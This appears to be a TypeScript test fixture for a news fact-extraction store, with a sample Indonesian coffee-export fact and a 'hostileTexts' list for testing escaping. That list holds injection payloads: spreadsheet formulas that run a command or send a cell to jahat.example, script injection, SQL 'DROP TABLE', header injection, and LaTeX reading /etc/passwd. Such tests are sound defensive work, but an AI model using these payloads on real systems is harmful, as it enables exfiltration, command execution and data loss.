import type { Citation, Fact } from '../../src/model/fact.js';
import type { FactArticle, FoundFact } from '../../src/store/index.js';

const hex = (digit: string): string => digit.repeat(64);

const article: FactArticle = {
  key: hex('a'),
  id: 'kabar-1',
  url: 'https://kabar.example/kopi?a=1',
  site: 'kabar.example',
  title: 'Kopi Gayo ke Jepang',
  byline: 'Wati Ningsih',
  published: '2024-07-01',
  textSha256: hex('b'),
  rules: hex('c'),
  version: '1.2.3',
  source: 'https://kabar.example/kopi?a=1',
  fetchedAt: '2024-07-02T03:04:05.678Z',
  snapshot: hex('d'),
};

const citation: Citation = {
  slot: 'quantity',
  value: 0,
  start: 20,
  end: 28,
  exact: '18,5 ton',
  prefix: 'Petani mengirim ',
  suffix: ' kopi ke Jepang.',
  occurrence: 1,
  of: 2,
};

const fact: Fact = {
  id: hex('e'),
  kind: 'shipment',
  status: 'realised',
  first: true,
  foundBy: ['export-verb'],
  products: [{ name: 'kopi arabika', text: 'kopi arabika Gayo', category: '09' }],
  quantities: [{ amount: 18.5, unit: 't', approx: null, text: '18,5 ton' }],
  values: [{ amount: 1_500_000_000, currency: 'IDR', approx: 'about', text: 'Rp1,5 miliar' }],
  destinations: [{ code: 'JP', text: 'Jepang' }],
  agencies: [{ name: 'Bea Cukai Aceh', text: 'Bea Cukai' }],
  exporters: [{ name: 'PT Gayo Maju', text: 'PT Gayo Maju' }],
  origin: { code: '11', name: 'Aceh', text: 'Aceh' },
  date: { value: '2024-06', text: 'Juni 2024', basis: 'stated' },
  citations: [citation],
};

interface Changes {
  readonly key?: string;
  readonly fact?: Partial<Fact>;
  readonly article?: Partial<FactArticle>;
  readonly quote?: FoundFact['quote'];
}

/** A fact with everything in it, changed here and there. */
export const makeFound = (changes: Changes = {}): FoundFact => ({
  key: changes.key ?? hex('f'),
  fact: { ...fact, ...changes.fact },
  quote: changes.quote === undefined ? { text: 'Petani mengirim 18,5 ton.', start: 4 } : changes.quote,
  article: { ...article, ...changes.article },
});

export const makeCitation = (changes: Partial<Citation>): Citation => ({ ...citation, ...changes });

/** A fact of which nothing is known that may be unknown. */
export const bareFound: FoundFact = makeFound({
  fact: {
    first: false,
    products: [],
    quantities: [],
    values: [],
    destinations: [],
    agencies: [],
    exporters: [],
    origin: null,
    date: null,
  },
  article: { url: null, site: null, title: null, byline: null, published: null, fetchedAt: null },
  quote: null,
});

/** Where a server shows things, for tests. */
export const addresses = {
  fact: (key: string): string => `https://fakta.example/fact/${key.slice(0, 16)}`,
  snapshot: (sha256: string): string => `https://fakta.example/snapshot/${sha256}`,
};

/** Text that spreadsheets, parsers, terminals and pages have been broken with. */
export const hostileTexts: readonly string[] = [
  '=1+1',
  '+62 812',
  '-5',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\ttab',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '﹣1',
  '₌1',
  "'=1+1",
  "''-5",
  '"=1+1"',
  'a;=1+1;b',
  'a,=1+1,b',
  'a\n=1+1',
  'a\r\n@x',
  'a\t+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://jahat.example?x="&A1;"klik")',
  'kutip "dua" dan \'satu\'',
  'koma, titik koma; tab\tbaris\nbaru\r\nlagi',
  'spasi di ujung ',
  ' spasi di awal',
  'sep=;',
  'é ü “kutip” — … 日本 العربية',
  '😀 kopi 👩‍🌾',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</script><!--',
  '{{7*7}} #{7*7} <%= 7*7 %>',
  "'; DROP TABLE fact; --",
  '\\"} \\u0000 \\n',
  '%0d%0aSet-Cookie: a=b',
  '__proto__',
  '{\\rtf1} \\input{/etc/passwd} $\\write18{ls}$ 100% #1 & _ ^ ~',
  '\u202egnp.exe',
];

/** Text with what no spreadsheet can show. */
export const unreadableTexts: readonly string[] = [
  'nol\u0000di tengah',
  '\u0000=1+1',
  '\u001b[31mmerah\u001b[0m',
  '\u009b31m',
  'bel\u0007',
  '\ud800',
  'a\udc00b',
  '\u007f',
];
